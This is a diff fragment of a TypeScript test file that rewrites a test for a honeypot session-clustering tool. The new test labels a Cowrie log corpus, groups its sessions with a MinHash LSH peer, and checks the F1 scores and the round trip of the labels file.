-      const e = await evaluateCorpus(join(CORPORA, "alvarogar-2022-07.cowrie.json.gz"), { outDir: dir })
-      expect(e.engineError).toBeNull()
-      const report = runEval({ labelsPath: join(dir, "alvarogar-2022-07.labels.tsv"), resultPath: join(dir, "alvarogar-2022-07.result.json") })
-      expect(report.labelledSessions).toBe(e.labels.stats.labelledSessions)
-      expect(report.family).toEqual(e.engine!.partition.family)
-      expect(report.calibration.campaigns.ece).toBe(e.engine!.report.calibration.campaigns.ece)
-      expect(e.baseline.partition.labelledSessions).toBe(report.labelledSessions)
-    } finally {
-      rmSync(dir, { recursive: true, force: true })
-    }
+  test("alvarogar: the MinHash peer scored on the labels, and the labels file read by the shipped eval", () => {
+    const file = join(CORPORA, "alvarogar-2022-07.cowrie.json.gz")
+    const l = labelFile(file, SIGS)
+    expect(l.stats.labelledSessions).toBeGreaterThan(0)
+    const peer = minhashLsh(readCommands(file))
+    const groups = new Map<string, Array<string>>()
+    for (const [s, k] of peer.keys) if (k !== null) groups.set(k, [...(groups.get(k) ?? []), s])
+    const prediction = predictionFromCampaigns([...groups].map(([id, sessions]) => ({ id, level: "family", sessions })))
+    const e = evalEvaluate(l.labels, new Set(l.conflicts.keys()), prediction, l.stats.sessions)
+    expect(e.scoredSessions).toBe(l.stats.labelledSessions)
+    expect(e.familyScores.f1).toBeGreaterThanOrEqual(0)
+    expect(e.familyScores.f1).toBeLessThanOrEqual(1)
+    expect(parseLabelsTsv(formatSignatureLabels(l.labels)).sessions.size).toBe(l.stats.labelledSessions)
   })
 })
